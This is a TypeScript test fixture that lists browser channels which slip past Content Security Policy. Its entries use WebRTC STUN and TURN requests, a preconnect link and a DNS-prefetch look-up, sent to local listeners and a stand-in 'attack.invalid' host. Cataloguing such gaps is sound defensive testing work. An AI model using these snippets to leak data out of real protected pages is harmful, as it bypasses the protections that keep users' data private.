import { script, type Residual } from '../attack.ts';

export const RESIDUALS: readonly Residual[] = [
  {
    name: 'WebRTC: a STUN request',
    app: () =>
      script(`
      const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:' + at.udp }] });
      peer.createDataChannel('leak');
      await peer.setLocalDescription(await peer.createOffer());
      await wait(300);`),
    port: 'udp',
    why: 'no directive of CSP that browsers enforce covers WebRTC',
  },
  {
    name: 'WebRTC: a TURN connection over TCP',
    app: () =>
      script(`
      const iceServers = [{ urls: 'turn:127.0.0.1:' + at.tcp + '?transport=tcp', username: 'secret', credential: 'x' }];
      const peer = new RTCPeerConnection({ iceServers, iceTransportPolicy: 'relay' });
      peer.createDataChannel('leak');
      await peer.setLocalDescription(await peer.createOffer());
      await wait(300);`),
    port: 'tcp',
    why: 'no directive of CSP that browsers enforce covers WebRTC',
  },
  {
    name: 'a preconnect link: a bare connection',
    app: ({ tcp }) => script('await wait(300);', `<link rel="preconnect" href="http://127.0.0.1:${tcp}">`),
    port: 'tcp',
    why: 'CSP does not govern connections on which nothing is asked for; a name in them is looked up all the same',
  },
  {
    name: 'a DNS prefetch link: a look-up',
    app: () => script('await wait(300);', '<link rel="dns-prefetch" href="http://secret.attack.invalid">'),
    why: 'CSP does not govern look-ups, and a page cannot see them; nothing here listens for one',
  },
];
